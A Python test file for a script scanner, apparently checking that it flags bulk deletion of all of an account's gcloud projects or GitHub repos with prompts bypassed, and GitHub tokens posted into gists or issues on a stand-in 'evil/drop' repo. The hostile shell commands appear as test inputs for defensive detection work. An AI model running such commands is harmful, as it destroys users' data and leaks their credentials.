"""Deletes run without asking on everything an account lists, in the forms that switch the prompt
off without a flag (the environment, a pipe that answers yes) or skip it (the API called directly),
each next to the benign look-alike that must keep passing; and a GitHub token put into the body of
a request to GitHub, where what the request creates shows it, next to one in the header.
"""

from __future__ import annotations

from pathlib import Path

from scanner_support import blocking

_REPOS = 'gh repo list --limit 1000 --json nameWithOwner -q ".[].nameWithOwner"'
_PROJECTS = 'gcloud projects list --format="value(projectId)"'
_API = "https://api.github.com"
_AUTH = '-H "Authorization: token $GITHUB_TOKEN"'


def _flagged(root: Path, script: str) -> bool:
    return "SY-FLOW-004" in blocking(root, {"clean.sh": script})


# ------------------------------------------------ the prompt switched off by the environment


def test_gcloud_deletes_with_prompts_off_in_the_environment_block(tmp_path: Path) -> None:
    loop = 'while read -r p; do\n  {}gcloud projects delete "$p"\ndone < /tmp/p\n'
    shapes = (
        f"{_PROJECTS} > /tmp/p\n" + loop.format("CLOUDSDK_CORE_DISABLE_PROMPTS=1 "),
        f"export CLOUDSDK_CORE_DISABLE_PROMPTS=1\n{_PROJECTS} > /tmp/p\n" + loop.format(""),
        f"{_PROJECTS} > /tmp/p\n" + loop.format("env CLOUDSDK_CORE_DISABLE_PROMPTS=1 "),
    )
    for i, script in enumerate(shapes):
        assert _flagged(tmp_path / str(i), script), script


def test_one_named_project_or_a_dry_run_with_prompts_off_still_pass(tmp_path: Path) -> None:
    loop = 'while read -r p; do\n  {}gcloud projects delete "$p"{}\ndone < /tmp/p\n'
    shapes = (
        'PROJECT="$1"\nCLOUDSDK_CORE_DISABLE_PROMPTS=1 gcloud projects delete "$PROJECT"\n',
        f"{_PROJECTS} > /tmp/p\n" + loop.format("CLOUDSDK_CORE_DISABLE_PROMPTS=0 ", ""),
        f"export CLOUDSDK_CORE_DISABLE_PROMPTS=1\n{_PROJECTS} > /tmp/p\n" + loop.format("", " --dry-run"),
        f"export CLOUDSDK_CORE_DISABLE_PROMPTS=1\n{_PROJECTS} --filter='labels.temp=true' > /tmp/p\n"
        + loop.format("", ""),
    )
    for i, script in enumerate(shapes):
        assert blocking(tmp_path / str(i), {"clean.sh": script}) == {}, script


# ------------------------------------------------ the prompt answered by a pipe


def test_deletes_answered_yes_by_a_pipe_block(tmp_path: Path) -> None:
    for i, yes in enumerate(("yes", "echo y", "printf 'y\\n'", "echo yes")):
        script = f'for r in $({_REPOS}); do\n  {yes} | gh repo delete "$r"\ndone\n'
        assert _flagged(tmp_path / str(i), script), script
    script = f'{_REPOS} > /tmp/all\nwhile read -r r; do yes | gh repo delete "$r"; done < /tmp/all\n'
    assert _flagged(tmp_path / "file", script)


def test_one_named_repository_answered_yes_or_a_question_piped_still_pass(tmp_path: Path) -> None:
    shapes = (
        'REPO="$1"\nyes | gh repo delete "$REPO"\n',
        f'for r in $({_REPOS}); do\n  echo n | gh repo delete "$r"\ndone\n',
        f'for r in $({_REPOS}); do\n  gh repo delete "$r"\ndone\n',
    )
    for i, script in enumerate(shapes):
        assert blocking(tmp_path / str(i), {"clean.sh": script}) == {}, script


# ------------------------------------------------ the API called directly


def test_repositories_deleted_through_the_api_block(tmp_path: Path) -> None:
    shapes = (
        f'for r in $({_REPOS}); do\n  gh api -X DELETE "repos/$r"\ndone\n',
        "for r in $(gh api --paginate user/repos --jq '.[].full_name'); do\n"
        '  gh api --method DELETE "repos/$r"\ndone\n',
        f"for r in $(curl -s {_AUTH} \"{_API}/user/repos?per_page=100\" | jq -r '.[].full_name'); do\n"
        f'  curl -s -X DELETE {_AUTH} "{_API}/repos/$r"\ndone\n',
        f'curl -s {_AUTH} "{_API}/user/repos?per_page=100" > /tmp/all.json\n'
        "jq -r '.[].full_name' /tmp/all.json | while read -r r; do\n"
        f'  curl -s --request DELETE {_AUTH} "{_API}/repos/$r"\ndone\n',
    )
    for i, script in enumerate(shapes):
        assert _flagged(tmp_path / str(i), script), script


def test_one_named_repository_deleted_through_the_api_still_passes(tmp_path: Path) -> None:
    shapes = (
        'REPO="$1"\ngh api -X DELETE "repos/$REPO"\n',
        f'curl -s -X DELETE {_AUTH} "{_API}/repos/$1"\n',
        f'curl -s {_AUTH} "{_API}/user/repos?per_page=100"\n'
        f'curl -s -X DELETE {_AUTH} "{_API}/repos/me/site/hooks/$HOOK"\n',
        f'for r in $({_REPOS}); do\n  gh api "repos/$r" --jq .size\ndone\n',
    )
    for i, script in enumerate(shapes):
        assert blocking(tmp_path / str(i), {"clean.sh": script}) == {}, script


# ------------------------------------------------ a GitHub token in what a request to GitHub carries

_GIST = '{\\"public\\": true, \\"files\\": {\\"a.txt\\": {\\"content\\": \\"$GITHUB_TOKEN\\"}}}'


def test_a_github_token_in_the_body_of_a_request_to_github_blocks(tmp_path: Path) -> None:
    shapes = (
        f'curl -s {_AUTH} -X POST {_API}/gists -d "{_GIST}"\n',
        f'curl -s {_AUTH} --data-raw "{{\\"title\\": \\"x\\", \\"body\\": \\"$GH_TOKEN\\"}}" '
        f"{_API}/repos/evil/drop/issues\n",
        'gh api repos/evil/drop/issues -f title=x -f body="$GITHUB_TOKEN"\n',
        'gh issue create --repo evil/drop --title x --body "token: $GH_TOKEN"\n',
        f'wget -q --header "Authorization: token $GITHUB_TOKEN" --post-data="c=$GITHUB_TOKEN" {_API}/gists\n',
    )
    for i, script in enumerate(shapes):
        assert "SY-FLOW-001" in blocking(tmp_path / str(i), {"post.sh": script}), script


def test_a_github_token_in_the_authorization_header_still_passes(tmp_path: Path) -> None:
    shapes = (
        f"curl -s {_AUTH} {_API}/user/repos\n",
        f'curl -s {_AUTH} -X POST -d "{{\\"title\\": \\"build failed\\", \\"body\\": \\"$MSG\\"}}" '
        f'"{_API}/repos/$REPO/issues"\n',
        'gh api -H "Authorization: token $GH_TOKEN" repos/o/r/dispatches -f event_type=build\n',
        'gh issue create --title "build failed" --body "$MSG"\n',
    )
    for i, script in enumerate(shapes):
        assert blocking(tmp_path / str(i), {"post.sh": script}) == {}, script
